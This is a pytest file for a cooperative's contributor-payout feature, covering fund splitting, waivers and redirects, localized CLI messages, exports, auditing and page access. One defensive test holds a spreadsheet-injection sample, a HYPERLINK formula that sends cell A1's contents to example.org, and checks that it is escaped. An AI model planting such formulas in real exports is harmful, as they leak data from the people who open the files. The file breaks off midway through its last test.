"""Contributor payouts: a month's fund split among contributors by their credits and the
charter's weights, to the cent; waived and redirected shares; the ledger and credits left as
they were."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from datetime import UTC, datetime
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from commune.cli import cli
from commune.commons.payouts import FUND, Line, PayoutStatement, Weights, split
from commune.store.schema import audit_log, credits, usage
from commune.text.messages import localise
from tests.conftest import PASSWORD, make_key, make_person

MONTH = datetime.now(UTC).strftime("%Y-%m")
NEXT_MONTH = f"{int(MONTH[:4]) + (MONTH[5:] == '12')}-{int(MONTH[5:]) % 12 + 1:02d}"
FILES = {
    "compost.md": "# Compost\n\nLe compost collectif se fait au jardin partagé du quartier nord, "
    "chaque samedi matin, avec les habitants.",
    "piscine.md": "# Piscine\n\nLa piscine municipale ouvre à 9 heures en semaine et à 10 heures "
    "le dimanche.",
    "stade.md": "# Stade\n\nLe stade municipal se réserve en mairie, au service des sports, "
    "une semaine à l'avance.",
    "bus.md": "# Bus\n\nLe bus de nuit passe toutes les heures sur la ligne 4 le samedi soir.",
}

COOP = "administering the cooperative needs the role cooperative-admin"


@pytest.fixture(scope="module")
def month_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small home's month, built once for this file's tests (each works on a copy): a
    named organisation and a person contribute, a curator of another member approves one
    contribution, answers cite them, and one document has no named contributor."""
    from commune.core import Commune

    tmp_path = tmp_path_factory.mktemp("payouts")
    with Commune(tmp_path / "home") as commune:
        build_month(commune, tmp_path)
    return tmp_path / "home"


@pytest.fixture
def month(month_home: Path, home: Path):  # type: ignore[no-untyped-def]
    from commune.core import Commune

    shutil.copytree(month_home, home)
    with Commune(home) as commune:
        yield commune


def build_month(commune, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for name, text in FILES.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    make_key(commune, "dora", "Ville A", "contributor")
    make_key(commune, "cyril", "Ville B", "curator")
    commune.add(
        [tmp_path / "compost.md"],
        collection="vie",
        licence="etalab-2.0",
        contributor="Jardins partagés",
    )
    commune.add([tmp_path / "bus.md"], collection="vie", licence="etalab-2.0")  # nobody named
    dora = commune.actor("dora")
    commune.add([tmp_path / "piscine.md"], collection="vie", licence="etalab-2.0", actor=dora)
    commune.set_curation_rules("vie", approvals=1, role="curator")
    commune.add([tmp_path / "stade.md"], collection="vie", licence="etalab-2.0", actor=dora)
    waiting = commune.pending()[0]
    assert commune.review(waiting["id"], "approve", "ok", commune.actor("cyril"))
    for q in (
        "Où se fait le compost collectif ?",
        "Quand ouvre la piscine le dimanche ?",
        "Quand passe le bus de nuit ?",
    ):
        commune.ask(q, collection="vie", mode="extractive")


def rows(commune, table):  # type: ignore[no-untyped-def]
    with commune.engine.connect() as conn:
        return [tuple(r) for r in conn.execute(select(table).order_by(table.c.id))]


def test_split_adds_up_to_the_cent_with_ties_by_share_then_name() -> None:
    third = {"b": Fraction(1, 3), "a": Fraction(1, 3), "c": Fraction(1, 3)}
    assert split(Decimal("100.00"), third) == {
        "a": Decimal("33.34"),  # equal remainders and shares: the name decides
        "b": Decimal("33.33"),
        "c": Decimal("33.33"),
    }
    uneven = {"x": Fraction(2, 3), "y": Fraction(1, 6), "z": Fraction(1, 6)}
    got = split(Decimal("0.05"), uneven)  # owed 3.33, 0.83, 0.83 cents
    assert got == {"x": Decimal("0.03"), "y": Decimal("0.01"), "z": Decimal("0.01")}
    assert split(Decimal("10"), {"a": Fraction(0)}) == {"a": Decimal(0)}


def test_a_month_of_payouts_adds_up_to_the_fund_and_follows_credits_and_weights(month) -> None:
    before = {t.name: rows(month, t) for t in (usage, credits)}
    stmt = month.payouts(MONTH, amount="100.00")
    by = {ln.contributor: ln for ln in stmt.lines}
    # To the cent: the contributors' amounts add up to the fund exactly.
    assert sum(ln.amount for ln in stmt.lines) == Decimal("100.00") == stmt.fund
    assert stmt.paid == Decimal("100.00") and stmt.kept == stmt.redirected == 0
    # The citations are `commune credits`' own, contributor by contributor.
    report = month.credits(MONTH)
    cited = {c["contributor"]: c["citations"] for c in report["contributors"]}
    assert {k: v for k, v in cited.items() if k != "(unknown)"} == {
        k: ln.citations for k, ln in by.items() if ln.citations
    }
    assert stmt.unattributed["citations"] == cited.get("(unknown)", 0) > 0
    # Documents published this month and reviews done, by whom.
    assert by["Jardins partagés"].documents == 1 and by["dora (Ville A)"].documents == 2
    assert by["cyril (Ville B)"].reviews == 1 and by["cyril (Ville B)"].citations == 0
    assert stmt.unattributed["documents"] == 1  # the bus timetable: nobody to pay
    # Each share is the charter's weights over the three measures (defaults 0.7/0.2/0.1).
    w = Weights()
    totals = {m: sum(getattr(ln, m) for ln in stmt.lines) for m in w.__dataclass_fields__}
    for ln in stmt.lines:
        exact = sum(
            Fraction(str(getattr(w, m))) * Fraction(getattr(ln, m), totals[m]) for m in totals
        )
        assert abs(Fraction(ln.amount) - 100 * exact) < Fraction(1, 100), ln
    assert by["cyril (Ville B)"].amount == Decimal("10.00")  # the only reviewer: all of 0.1
    # Nothing in the ledger or the credits changed, by a statement issued and written either.
    from commune.commons.payout_files import export

    issued, _ = month.issue_payouts(MONTH, amount="100.00")
    export(issued, month.settings.home / "payouts")
    assert issued.lines == stmt.lines
    assert {t.name: rows(month, t) for t in (usage, credits)} == before


def test_waived_and_redirected_shares_go_where_stated_from_their_month(month) -> None:
    month.set_payout_choice("Jardins partagés", "waive")
    month.set_payout_choice("dora (Ville A)", "redirect", to="Ville B")
    month.set_payout_choice("cyril (Ville B)", "waive", from_month=NEXT_MONTH)
    stmt = month.payouts(MONTH, amount="250.00")
    by = {ln.contributor: ln for ln in stmt.lines}
    assert by["Jardins partagés"].paid_to == FUND and by["dora (Ville A)"].paid_to == "Ville B"
    assert by["cyril (Ville B)"].paid_to == "cyril (Ville B)"  # his waiver starts next month
    assert stmt.kept == by["Jardins partagés"].amount
    assert stmt.redirected == by["dora (Ville A)"].amount
    recipients = stmt.recipients()
    assert recipients[FUND] == stmt.kept and recipients["Ville B"] == stmt.redirected
    assert sum(recipients.values()) == Decimal("250.00")
    from commune.cli.accounting import french_payouts

    said = french_payouts(stmt)  # a waived share goes to the fund, said so, not "(fund)"
    assert "(fund)" not in said and "-> le fonds (laissée au fonds)" in said, said
    assert "-> Ville B (redirigée)" in said
    assert month.payouts(NEXT_MONTH, amount="250.00").lines == []  # nobody credited yet
    # Each choice is audited; a choice for nobody known, or to no member, is refused.
    actions = [r.action for r in (row for row in audit(month))]
    assert actions.count("payout-waive") == 2 and actions.count("payout-redirect") == 1
    from commune.errors import NotFound

    with pytest.raises(NotFound):
        month.set_payout_choice("Personne", "waive")
    with pytest.raises(NotFound):
        month.set_payout_choice("dora (Ville A)", "redirect", to="Ville Z")
    assert len(month.payout_choices()) == 3


def test_a_share_is_not_redirected_to_a_peer_cooperative_and_the_refusal_says_no_more(
    month, home: Path
) -> None:
    # A peer cooperative is kept as a member of kind "peer" (docs/peering.md): a share
    # redirected to it was accepted, paying another cooperative from this one's fund, and
    # "no member named" for an unknown name beside it told whether a peer of that name
    # existed. A peer is no member of this cooperative: refused, to someone who does not
    # list the members (a contributor choosing for their own share), word for word as a
    # name nobody has.
    from commune.errors import NotFound

    month.admin.issue_peer("Coop Voisine")
    dora = month.actor("dora")
    said = {}
    for name in ("Coop Voisine", "Coop Absente"):
        with pytest.raises(NotFound) as refused:
            month.set_payout_choice("dora (Ville A)", "redirect", to=name, actor=dora)
        said[name] = str(refused.value).replace(name, "NAME")
    assert (
        said["Coop Voisine"]
        == said["Coop Absente"]
        == ("no member named 'NAME' (list members with commune member list)")
    )
    assert month.payout_choices() == []  # nothing recorded
    assert [m["name"] for m in month.admin.members() if m["kind"] != "peer"] == [
        "Ville A",
        "Ville B",
    ]


def test_the_operator_is_told_a_redirect_names_a_peer_cooperative(month, home: Path) -> None:
    # Only the operator records a redirect (commune payouts redirect), and `commune member
    # list`, which the refusal sent them to, shows the peer: "no member named 'Coop Voisine'"
    # beside the line naming it said neither what was wrong nor what to do.
    month.admin.issue_peer("Coop Voisine")
    out = CliRunner(env={"LANG": "fr_FR.UTF-8"}).invoke(
        cli, ["--home", str(home), "payouts", "redirect", "dora (Ville A)", "--to", "Coop Voisine"]
    )
    assert out.exit_code != 0
    assert out.output == (
        "erreur\u00a0: 'Coop Voisine' est une coopérative pair, pas un membre de celle-ci\u00a0: "
        "son fonds ne verse qu'à ses membres (redirigez la part vers un membre d'un autre "
        "type que peer\u00a0; commune member list donne le type de chacun)\n"
    ), out.output
    english = CliRunner(env={"LANG": "en_US.UTF-8", "LC_ALL": "", "LANGUAGE": ""}).invoke(
        cli, ["--home", str(home), "payouts", "redirect", "dora (Ville A)", "--to", "Coop Voisine"]
    )
    assert "'Coop Voisine' is a peer cooperative, not a member of this one" in english.output
    assert month.payout_choices() == []  # nothing recorded


def audit(commune):  # type: ignore[no-untyped-def]
    with commune.engine.connect() as conn:
        return list(conn.execute(select(audit_log).order_by(audit_log.c.id)))


def test_the_cli_writes_french_spreadsheet_csv_json_html_and_audits_the_run(
    month, home: Path, tmp_path: Path
) -> None:
    run = CliRunner()
    out = tmp_path / "out"
    args = ["--home", str(home), "payouts", "--month", MONTH, "--amount", "100", "--out"]
    r = run.invoke(cli, [*args, str(out), "--json"])
    assert r.exit_code == 0, r.output
    printed = json.loads(r.stdout)
    raw = (out / f"payouts-{MONTH}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:2] == ["mois", "contributeur"] and len(table) == 1 + len(printed["lines"])
    amounts = [Decimal(row[6].replace(",", ".")) for row in table[1:]]
    assert all("," in row[6] for row in table[1:]) and sum(amounts) == Decimal("100.00")
    assert json.loads((out / f"payouts-{MONTH}.json").read_text())["fund"] == "100.00"
    assert (out / f"payouts-{MONTH}-dora-ville-a.html").read_text().count("dora (Ville A)")
    assert len(list(out.iterdir())) == 3 + 3 * len(printed["lines"])
    entry = audit(month)[-1]
    assert entry.action == "payouts" and json.loads(entry.details)["sha256"] == printed["sha256"]
    # Choices by command, audited; bad input is one line and changes nothing.
    r = run.invoke(cli, ["--home", str(home), "payouts", "waive", "Jardins partagés"])
    assert r.exit_code == 0 and "waived" in r.output
    r = run.invoke(cli, ["--home", str(home), "payouts", "choices"])
    assert "Jardins partagés\twaive" in r.output
    # In French, the headers and the choice too; a waived share goes "to the fund", not
    # "-> (fund)" (found by an exploratory test).
    french = CliRunner(env={"LANG": "fr_FR.UTF-8"})
    r = french.invoke(cli, ["--home", str(home), "payouts", "choices"])
    assert r.output.startswith("depuis\tcontributeur\tchoix") and "\trenoncer\t" in r.output
    # Under "par", the command line's own word was English: "operator".
    assert "Jardins partagés\trenoncer\t\topérateur\n" in r.output, r.output
    assert "\toperator" not in r.output
    english = run.invoke(cli, ["--home", str(home), "payouts", "choices"], env={"LANG": "en"})
    assert "Jardins partagés\twaive\t\toperator\n" in english.output, english.output
    n = len(audit(month))
    for bad in (
        ["payouts", "--month", MONTH, "--amount", "10.005"],
        ["payouts", "--month", "2026-13", "--amount", "10"],
        ["payouts", "--month", MONTH],  # no fund in commune.toml, none given
        ["payouts", "redirect", "dora (Ville A)", "--to", "Ville Z"],
        ["payouts", "waive", "Personne"],
    ):
        r = run.invoke(cli, ["--home", str(home), *bad])
        assert r.exit_code != 0 and "Traceback" not in r.output, bad
        assert len(r.output.strip().splitlines()) <= 2, r.output
    assert len(audit(month)) == n


def test_the_fund_and_the_weights_come_from_the_settings_and_the_charter(home: Path) -> None:
    from commune.core import Commune
    from commune.errors import ConfigError

    home.mkdir(parents=True)
    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 80.5\n", encoding="utf-8")
    (home / "charter.toml").write_text(
        'version = "1"\n[payouts]\ncitations = 1\ndocuments = 0\nreviews = 0\n', encoding="utf-8"
    )
    with Commune(home) as c:
        stmt = c.payouts(MONTH)
        assert stmt.fund == Decimal("80.50") and stmt.weights == Weights(1.0, 0.0, 0.0)
        assert stmt.kept == Decimal("80.50")  # nobody credited: the fund keeps it all
    (home / "charter.toml").write_text(
        'version = "1"\n[payouts]\ncitations = 1\n', encoding="utf-8"
    )
    with Commune(home) as c, pytest.raises(ConfigError, match=r"line 2.*documents is missing"):
        c.payouts(MONTH)


def test_admins_see_the_payouts_page_and_contributors_their_own_line(month, home) -> None:
    from commune.api.app import create_app
    from commune.core import Commune
    from commune.govern.accounts import set_password
    from tests.test_web import Browser

    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:  # the fund is read from commune.toml when a home opens
        make_person(c, "alice", "Ville A", "cooperative-admin")
        with c.engine.begin() as conn:  # dora signs in on the web too
            set_password(conn, "dora", PASSWORD)
        app = create_app(c)
        alice = Browser(app)
        assert alice.sign_in("alice").status_code == 303
        page = alice.get(f"/payouts?month={MONTH}").page
        assert "Jardins partagés" in page and "cyril (Ville B)" in page
        csv_file = alice.get(f"/payouts.csv?month={MONTH}")
        assert csv_file.content.startswith(b"\xef\xbb\xbf") and b";" in csv_file.content
        assert csv_file.headers["cache-control"] == "no-store"
        dora = Browser(app)
        assert dora.sign_in("dora").status_code == 303
        assert dora.get("/payouts").status_code == 403
        mine = dora.get("/account").page
        assert "dora (Ville A)" in mine and "Jardins partagés" not in mine
        assert dora.post("/account/payout", {"choice": "waive"}).status_code == 303
        line = c.payouts(MONTH).line_of("dora (Ville A)")
        assert line is not None and line.paid_to == FUND
        # A value the form does not offer changes nothing (it was stored as "receive"), and a
        # month that is no month is refused (it titled an empty statement "abc").
        assert dora.post("/account/payout", {"choice": "bogus"}).status_code == 400
        line = c.payouts(MONTH).line_of("dora (Ville A)")
        assert line is not None and line.paid_to == FUND
        assert alice.get("/payouts?month=abc").status_code == 400


def test_the_payouts_page_shows_a_month_paid_out_without_a_fund_in_commune_toml(home) -> None:
    """A month issued with --amount keeps that fund, as `commune payouts` shows it; the page
    said no fund was set while commune.toml had none."""
    from commune.api.app import create_app
    from commune.core import Commune
    from tests.test_web import Browser

    with Commune(home) as c:
        make_person(c, "alice", "Ville A", "cooperative-admin")
        c.issue_payouts("2025-01", "42")
        assert c.payouts("2025-01").fund == Decimal("42.00")  # the CLI's
        alice = Browser(create_app(c))
        assert alice.sign_in("alice").status_code == 303
        page = alice.get("/payouts?month=2025-01").page
        assert "Aucun fonds" not in page and "42,00 EUR" in page, page
        assert "Aucun fonds de rétribution n'est fixé" in alice.get("/payouts?month=2025-02").page


def test_an_amount_takes_a_decimal_comma_and_a_huge_one_is_refused_in_one_line() -> None:
    # "12,50" was refused in English although the CLI prints amounts so; 1e40 raised a
    # traceback from Decimal's quantize (review findings).
    from commune.commons.payouts import MAX_AMOUNT, as_amount
    from commune.errors import InvalidRequest
    from commune.text.messages import localise

    assert as_amount("12,50") == Decimal("12.50") == as_amount(" 12.5 ")
    assert as_amount(MAX_AMOUNT) == MAX_AMOUNT
    with pytest.raises(InvalidRequest, match="must be at most 1,000,000,000,000 euros") as huge:
        as_amount("1e40", "the payouts fund")
    # Grouped as French writes it: "1,000,000,000,000 euros" was said in French as it stood.
    assert localise(str(huge.value), "fr") == (
        "le fonds de rétribution doit être d'au plus 1\u202f000\u202f000\u202f000\u202f000 "
        "euros, reçu 1e40"
    )
    with pytest.raises(InvalidRequest) as words:
        as_amount("douze", "the payouts fund")
    assert localise(str(words.value), "fr").startswith("le fonds de rétribution doit être")


def test_contributors_whose_names_meet_in_a_file_name_keep_a_file_each(tmp_path) -> None:
    # "Zoé" and "Zoë" were both "zo": Zoë numbered "zo-2" was overwritten by "zo 2" (review).
    from commune.commons.payout_files import export
    from commune.commons.payouts import Line, PayoutStatement

    names = ["Zoé", "Zoë", "zo 2", "zoe 2"]
    lines = [Line(n, 1, 0, 0, 0.25, Decimal("2.50"), "receive", n) for n in names]
    stmt = PayoutStatement("2026-11", "EUR", Decimal("10.00"), Weights(), "largest", lines)
    written = export(stmt, tmp_path)
    assert len(written) == len(set(written)) == 3 + 3 * len(names)
    shown = {
        json.loads(p.read_text("utf-8"))["contributor"]["contributor"]
        for p in written
        if p.suffix == ".json" and p.stem != "payouts-2026-11"
    }
    assert shown == set(names)
    assert (tmp_path / "payouts-2026-11-zoe.json").exists()


def test_a_choice_cannot_change_a_month_already_paid_out(month) -> None:
    """A choice from a past month was taken, and the month issued again paid a share the
    first issue had kept in the fund."""
    from commune.errors import InvalidRequest

    month.set_payout_choice("Jardins partagés", "waive", from_month=MONTH)
    first, _ = month.issue_payouts(MONTH, amount="100.00")
    with pytest.raises(InvalidRequest, match=f"payouts up to {MONTH} were issued already"):
        month.set_payout_choice("Jardins partagés", "receive", from_month=MONTH)
    again = month.payouts(MONTH, amount="100.00")
    assert again.lines == first.lines and again.kept == first.kept > 0
    month.set_payout_choice("Jardins partagés", "receive", from_month=NEXT_MONTH)  # from then on
    assert len(month.payout_choices()) == 2


def test_the_english_statement_says_one_citation_not_one_citations(month, home: Path) -> None:
    # Found by an exploratory test: "(1 citations, 1 documents, 0 reviews)".
    r = CliRunner().invoke(
        cli, ["--home", str(home), "payouts", "--month", MONTH, "--amount", "100"]
    )
    assert r.exit_code == 0, r.output
    jardins = next(line for line in r.output.splitlines() if "Jardins partagés" in line)
    assert re.search(r"\(\d+ citations?, 1 document, 0 reviews\)", jardins), jardins
    for slip in ("1 citations", "1 documents", "1 reviews"):
        assert slip not in r.output, r.output


def test_a_name_a_spreadsheet_would_compute_is_written_as_text(tmp_path) -> None:
    # A contributor's name comes from an imported dataset or --contributor: "=HYPERLINK(…)"
    # in payouts.csv ran as a formula on the computer of the admin who opened it.
    from commune.commons.payout_files import csv_text
    from commune.commons.payouts import Line, PayoutStatement

    evil = '=HYPERLINK("https://example.org/?"&A1;"ici")'
    lines = [
        Line(evil, 1, 0, 0, 0.5, Decimal("5.00"), "receive", evil),
        Line("Jardins partagés", 1, 0, 0, 0.5, Decimal("5.00"), "redirect", "@Ville"),
    ]
    stmt = PayoutStatement("2026-11", "EUR", Decimal("10.00"), Weights(), "largest", lines)
    rows = list(csv.reader(csv_text(stmt).splitlines(), delimiter=";"))
    assert rows[1][1] == rows[1][-1] == "'" + evil
    assert rows[2][1] == "Jardins partagés" and rows[2][-1] == "'@Ville"
    assert rows[1][6] == "5,00"  # figures are left as they are


def test_the_csv_says_each_choice_in_french_as_its_header(month) -> None:
    """The spreadsheet's header is French ("choix"), and its values were the codes
    "receive", "waive", "redirect" below it."""
    from commune.commons.payout_files import csv_text

    month.set_payout_choice("Jardins partagés", "waive")
    month.set_payout_choice("dora (Ville A)", "redirect", to="Ville B")
    rows = list(
        csv.reader(csv_text(month.payouts(MONTH, amount="100")).splitlines(), delimiter=";")
    )
    choice = {row[1]: row[rows[0].index("choix")] for row in rows[1:]}
    assert choice["Jardins partagés"] == "renoncé (reste au fonds)"
    assert choice["dora (Ville A)"] == "reversé" and choice["cyril (Ville B)"] == "perçu"


def test_payout_files_cut_short_by_a_kill_leave_the_last_ones_whole(
    month, home: Path, tmp_path: Path, monkeypatch
) -> None:
    # Written in place, a run killed midway (kill -9, a power cut) left a payouts CSV or JSON
    # cut short under its own name: a treasurer read a statement paying less than its fund.
    # Now each file is the last run's, whole, or the new one, whole (store/files.py).
    out = tmp_path / "out"
    args = ["--home", str(home), "payouts", "--month", MONTH, "--out", str(out)]
    assert CliRunner().invoke(cli, [*args, "--amount", "100"]).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = io.open

    def cut_short(file, mode="r", *a, **kw):  # type: ignore[no-untyped-def]
        handle = real(file, mode, *a, **kw)
        if "w" not in mode:
            return handle

        class Killed:
            def __enter__(self):  # type: ignore[no-untyped-def]
                return self

            def __exit__(self, *exc):  # type: ignore[no-untyped-def]
                handle.close()

            def write(self, text):  # type: ignore[no-untyped-def]
                handle.write(text[: len(text) // 2])
                handle.flush()
                raise KeyboardInterrupt("killed while writing")

            def __getattr__(self, name):  # type: ignore[no-untyped-def]
                return getattr(handle, name)

        return Killed()

    monkeypatch.setattr(io, "open", cut_short)
    monkeypatch.setattr("builtins.open", cut_short)
    r = CliRunner().invoke(cli, [*args, "--amount", "200"])
    monkeypatch.undo()
    assert r.exit_code != 0
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert json.loads((out / f"payouts-{MONTH}.json").read_text())["fund"] == "100.00"


def test_a_month_is_paid_by_the_charters_weights_in_force_at_its_end(month, home) -> None:
    """The charter's [payouts] weights changed after a month: the month issued again was
    split by the new weights, and read otherwise than the statement its audit entry hashed."""
    from sqlalchemy import update

    from commune.core import Commune
    from commune.store.schema import charters

    first, digest = month.issue_payouts(MONTH, amount="100.00")
    assert first.weights == Weights()  # the default charter's, in force this month
    month.close()
    (home / "charter.toml").write_text(
        'version = "2"\n[payouts]\ncitations = 1\ndocuments = 0\nreviews = 0\n', encoding="utf-8"
    )
    with Commune(home) as later:
        assert later.charter.payouts == Weights(1.0, 0.0, 0.0)  # recorded as in force now
        # ... and say it came into force after this month ended, as it would a month later.
        with later.engine.begin() as conn:
            conn.execute(
                update(charters)
                .where(charters.c.version == "2")
                .values(in_force_from=datetime.strptime(NEXT_MONTH, "%Y-%m").replace(tzinfo=UTC))
            )
        again, again_digest = later.issue_payouts(MONTH, amount="100.00")
        assert again.weights == Weights() and again.lines == first.lines
        assert again_digest == digest  # the statement handed out still checks against the log
        # The month after is paid by the charter in force then.
        assert later.payouts(NEXT_MONTH, amount="100.00").weights == Weights(1.0, 0.0, 0.0)


def test_a_choice_made_after_the_month_was_paid_out_says_from_when_it_applies(month, home):
    """The month's payouts issued, dora waived her share on her account page: it was
    recorded from next month, and the page said "Your share is waived" beside this month's
    share, still paid to her."""
    from commune.api.app import create_app
    from commune.core import Commune
    from commune.govern.accounts import set_password
    from tests.test_web import Browser

    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:
        with c.engine.begin() as conn:
            set_password(conn, "dora", PASSWORD)
        c.issue_payouts(MONTH)
        dora = Browser(create_app(c))
        assert dora.sign_in("dora").status_code == 303
        dora.get("/account")
        done = dora.post("/account/payout", {"choice": "waive"})
        assert done.status_code == 303
        line = c.payouts(MONTH).line_of("dora (Ville A)")
        assert line is not None and line.paid_to == "dora (Ville A)"  # this month: hers
        for lang, said, not_said in (
            ("en", f"From {NEXT_MONTH}, your share is waived: it stays in the fund.", "waived:"),
            ("fr", f"À partir de {NEXT_MONTH}, votre part est laissée au fonds.", "Vous renoncez"),
        ):
            page = dora.get(done.headers["location"], headers={"Accept-Language": lang}).page
            assert said in page, page
            assert page.count(not_said) == (1 if lang == "en" else 0), page
        dora.get("/account")
        back = dora.post("/account/payout", {"choice": "receive"})
        page = dora.get(back.headers["location"], headers={"Accept-Language": "en"}).page
        assert f"From {NEXT_MONTH}, your share is paid to you." in page, page


def test_issuing_a_month_not_over_says_what_it_does(month, home: Path) -> None:
    """`commune payouts --month` for the month under way issued it silently: its amounts were
    the credits so far, and every contributor's choice, on the command line or the account
    page, then applied only from the month after."""
    for env, said in (
        (
            {"LANG": "en_GB.UTF-8"},
            f"note: {MONTH} is not over: issued with its credits so far; a payout choice made "
            f"from now on applies from {NEXT_MONTH}",
        ),
        (
            {"LANG": "fr_FR.UTF-8"},
            f"note\u00a0: {MONTH} n'est pas fini\u00a0: émis avec ses crédits à ce jour\u00a0; "
            f"un choix de versement fait désormais s'applique à partir de {NEXT_MONTH}",
        ),
    ):
        r = CliRunner(env=env).invoke(
            cli, ["--home", str(home), "payouts", "--month", MONTH, "--amount", "100"]
        )
        assert r.exit_code == 0 and said in r.stderr, r.output
    r = CliRunner().invoke(
        cli, ["--home", str(home), "payouts", "--month", "2026-11", "--amount", "100", "--json"]
    )
    assert r.exit_code == 0 and "not over" not in r.output, r.output
    json.loads(r.stdout)  # the JSON alone on stdout


def test_a_month_to_come_is_not_issued(month, home: Path) -> None:
    """`commune payouts --month` for a month that has not begun (2062-11 typed for 2026-11)
    issued it, audited, and from then on every payout choice was refused before the month
    after it ("payouts up to 2062-11 were issued already"): decades of choices held."""
    for env, said in (
        (
            {"LANG": "en_GB.UTF-8"},
            f"{NEXT_MONTH} has not begun: its payouts cannot be issued (check --month: the "
            f"month under way is {MONTH})",
        ),
        (
            {"LANG": "fr_FR.UTF-8"},
            f"{NEXT_MONTH} n'a pas commencé\u00a0: ses versements ne peuvent pas être émis "
            f"(vérifiez --month\u00a0: le mois en cours est {MONTH})",
        ),
    ):
        r = CliRunner(env=env).invoke(
            cli, ["--home", str(home), "payouts", "--month", NEXT_MONTH, "--amount", "100"]
        )
        assert r.exit_code != 0 and said in r.stderr, r.output
        assert "Traceback" not in r.output
    assert not [e for e in month.audit_entries(500) if e["action"] == "payouts"]


def test_a_share_below_the_last_digit_reads_below_it_not_zero(tmp_path) -> None:
    """One citation among many thousands: its share of the fund read "0,00 %" beside an
    amount of 0,01 EUR, on the statement's page and file and the account page."""
    from commune.commons.payout_files import contributor_html, csv_text, statement_html

    tiny = Line("Zoé", 1, 0, 0, 0.00004, Decimal("0.01"), "receive", "Zoé")
    big = Line("Yann", 24999, 0, 0, 0.99996, Decimal("99.99"), "receive", "Yann")
    stmt = PayoutStatement("2026-11", "EUR", Decimal("100.00"), Weights(), "largest", [big, tiny])
    page = statement_html(stmt)
    # With the narrow no-break space French puts before "%", as text/numbers.percent does.
    assert "<td>&lt; 0,01\u202f%</td>" in page and "<td>0,00\u202f%</td>" not in page, page
    assert "<td>0,0040\u202f%</td>" in contributor_html(stmt, tiny)
    assert "<td>99,9960\u202f%</td>" in contributor_html(stmt, big)
    assert ";Zoé;1;0;0;0,000040;0,01;" in csv_text(stmt)
    # The web page, over the same month in a home's credits.
    from sqlalchemy import insert

    from commune.api.app import create_app
    from commune.core import Commune
    from tests.test_web import Browser

    home = tmp_path / "home"
    home.mkdir()
    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:
        make_person(c, "alice", "Ville A", "cooperative-admin")
        with c.engine.begin() as conn:
            for who, n in (("Yann", 24999), ("Zoé", 1)):
                row = {"created_at": datetime.now(UTC), "route": "api/ask", "document_id": 1}
                conn.execute(insert(credits).values(**row, contributor=who, citations=n))
        alice = Browser(create_app(c))
        alice.sign_in("alice")
        page = alice.get("/payouts", headers={"Accept-Language": "fr"}).page
    assert "<td>< 0,01 %</td><td>0,00 EUR</td>" in page, page
    assert "<td>0,00 %</td>" not in page


def test_a_month_issued_again_keeps_the_fund_it_was_issued_with(month, home: Path) -> None:
    """[payouts] monthly_eur raised after a month was paid out: the month issued again (a
    lost file sent anew) split the new fund, and read otherwise than its audited hash."""
    from sqlalchemy import update

    from commune.core import Commune

    month.close()
    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 100\n", encoding="utf-8")
    with Commune(home) as c:
        peeked, _ = c.issue_payouts(MONTH)  # the month under way: a look, not its payout
        first, digest = c.issue_payouts(MONTH)
        # ... and say that second issue came once the month was over, as it would a month on.
        with c.engine.begin() as conn:
            latest = conn.execute(select(audit_log.c.id).order_by(audit_log.c.id.desc())).first()
            assert latest is not None
            after = datetime.strptime(NEXT_MONTH, "%Y-%m").replace(tzinfo=UTC).isoformat()
            conn.execute(
                update(audit_log).where(audit_log.c.id == latest.id).values(created_at=after)
            )
    (home / "commune.toml").write_text("[payouts]\nmonthly_eur = 150\n", encoding="utf-8")
    with Commune(home) as c:
        again, again_digest = c.issue_payouts(MONTH)
        assert again.fund == Decimal("100.00") and again_digest == digest
        assert c.payouts(MONTH).lines == first.lines  # the web's page too
        # An amount given says otherwise, on purpose; a month never paid out takes the
        # setting, and so did this one while only looked at under way.
        assert c.payouts(MONTH, amount="120").fund == Decimal("120.00")
        assert c.payouts(NEXT_MONTH).fund == Decimal("150.00")
        with c.engine.begin() as conn:
            conn.execute(
                update(audit_log)
                .where(audit_log.c.id == latest.id)
                .values(created_at=f"{MONTH}-15T12:00:00+00:00")
            )
        assert c.payouts(MONTH).fund == Decimal("150.00") and peeked.fund == Decimal("100.00")


def test_the_payouts_page_refuses_a_member_admin_and_a_reader_for_the_right_reason(commune):
    """A member admin refused /payouts read, on a French page, "(this member is not marc's
    member)": English, and not why (the statement of every member is the cooperative's
    admins'); a reader read that the member-admin role would do, after "reserved to the
    cooperative's admins"."""
    from commune.api.app import create_app
    from commune.govern.policy import COOPERATIVE, Actor, allowed
    from tests.test_web import Browser

    make_person(commune, "marc", "Ville A", "member-admin")
    make_person(commune, "rita", "Ville A", "reader")
    app = create_app(commune)
    for user, role in (("marc", "administrateur de membre"), ("rita", "lecteur")):
        b = Browser(app)
        assert b.sign_in(user).status_code == 303
        r = b.get("/payouts", headers={"Accept-Language": "fr"})
        assert r.status_code == 403
        assert (
            f"voir le relevé demande le rôle administrateur de la coopérative ou plus\u00a0; "
            f"{user} est {role}"
        ) in r.page, r.page
        assert "member" not in r.page.split("<main", 1)[1].split("</main>")[0]
    # The library's reason, as the CLI and the API give it.
    marc = Actor(2, "marc", 1, "Ville A", "member-admin")
    assert allowed(marc, "statement", COOPERATIVE).reason == (
        "seeing the statement needs the role cooperative-admin or above; marc is member-admin"
    )


def test_the_payouts_page_says_a_month_under_way_or_to_come(tmp_path) -> None:
    """/payouts showed the month under way as a closed one: its shares those so far with
    nothing saying so, and on its first day "Nobody was credited this month: the fund keeps it
    all."; a month to come alike."""
    from commune.api.app import create_app
    from commune.core import Commune
    from tests.test_web import Browser

    home = tmp_path / "home"
    home.mkdir()
